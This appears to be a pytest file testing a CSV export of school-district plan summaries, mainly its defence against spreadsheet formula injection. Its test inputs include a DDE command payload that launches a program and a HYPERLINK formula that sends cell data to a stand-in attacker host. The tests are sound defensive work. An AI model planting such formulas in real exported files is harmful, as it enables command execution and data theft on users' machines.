"""The table for spreadsheets: one row a plan and program, and no text that a spreadsheet takes for a formula."""

import csv
from io import StringIO
from typing import Any

import pytest

from render.attacks import STRINGS
from render.plans import everywhere
from soaplan.characters import for_a_spreadsheet
from soaplan.output.report import Screen
from soaplan.summary import Summary, write
from soaplan.summary.totals import summary_of
from summary.region import broken, records, summary

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)",
    "\t=1", "\r=1", "\n=1", "\u200b=1", "\ufeff=1", " =1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
]  # fmt: skip
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\t\r\n"


def rows_of(found: Summary) -> list[dict[str, str]]:
    text = write("csv", found, Screen())
    assert text.startswith("\ufeff"), "Excel needs the mark"
    return list(csv.DictReader(StringIO(text[1:])))


def test_one_row_for_each_program_with_its_amounts() -> None:
    rows = rows_of(summary())
    assert [(row["district"], row["focus area"], row["program"]) for row in rows] == [
        ("Alder Falls", "2.2", "2.2D"),
        ("Alder Falls", "2.2", "2.2A"),
        ("Alder Falls", "2.4", "2.4A"),
        ("Birch Harbor", "2.2", "2.2D"),
        ("Cedar Mill", "9.9", "9.9Z"),
        ("Cedar Mill", "9.9", ""),
        ("Cedar Mill", "3.1", ""),
    ]
    assert [rows[0][name] for name in ("FY25", "FY26", "FY27", "FY28", "three-year total")] == [
        "100", "300", "500", "", "900",
    ]  # fmt: skip
    assert (rows[0]["student groups"], rows[0]["vote date"]) == (
        "English learners; Students with disabilities; Robotics team",
        "2024-03-14",
    )
    assert rows[0]["sources"] == "Chapter 70 600; Title I 200"


def test_an_unknown_amount_is_an_empty_cell() -> None:
    row = rows_of(summary())[2]
    assert (row["FY25"], row["FY26"], row["three-year total"]) == ("5", "", "")


def test_numbers_are_numbers_and_texts_are_texts() -> None:
    line = write("csv", summary(), Screen()).splitlines()[1]
    assert ",100,300,500," in line
    assert '"00010000"' in line


def test_a_broken_file_has_a_row_of_its_own() -> None:
    row = rows_of(summary(broken()))[-1]
    assert row["file"] == "broken.yaml"
    assert row["cannot be read because"].startswith("line 1: ")
    assert "(DOC001)" in row["cannot be read because"]
    assert row["program"] == ""


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert for_a_spreadsheet(text).startswith("'")
    assert for_a_spreadsheet(text)[1:] == text


@pytest.mark.parametrize("text", ["Millbrook", "'=1", "a=b", "a-b", "2.2D", "", "x+1; y"])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert for_a_spreadsheet(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, *STRINGS])
def test_no_cell_of_an_attacked_plan_begins_like_a_formula(text: str) -> None:
    for row in rows_of(summary_of(records(attacked(text)), summary().as_of)):
        for cell in row.values():
            assert not cell.startswith(tuple(SIGNS)), cell
            assert all(not part.strip().startswith(tuple(SIGNS)) for part in cell.split(";")), cell


def attacked(text: str) -> dict[str, Any]:
    """A plan with the text everywhere, and more than once where a cell joins several."""
    answers = everywhere(text)
    answers["analysis"]["student_groups"] = ["English learners", text, text + "x"]
    return answers


def test_the_name_of_a_file_is_a_text_too() -> None:
    record = broken(path="=1+1.yaml")
    assert rows_of(summary(record))[-1]["file"] == "'=1+1.yaml"
